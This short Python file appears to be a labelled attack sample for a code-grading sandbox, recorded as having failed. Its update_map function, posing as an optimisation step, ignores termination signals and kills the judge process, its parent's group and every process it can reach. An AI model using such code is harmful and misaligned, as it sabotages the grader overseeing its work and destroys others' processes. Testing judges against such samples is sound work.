# attack: kills every process that it may kill, other groups and the judge by its number
# kind: ending
# grade: 1.b
# outcome: failed, memory, protocol, crash
# module: saddle

# ruff: noqa: F821
import os
import signal


def update_map(f, x, y, eta_x, eta_y, method="gda"):
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    for number in (signal.SIGTERM, signal.SIGKILL):
        for kill, target in (
            (os.kill, TARGETS["judge"]),
            (os.killpg, TARGETS["judge"]),
            (os.killpg, os.getppid()),
            (os.kill, -1),
        ):
            try:
                kill(target, number)
            except OSError:
                continue
    raise RuntimeError("denied")
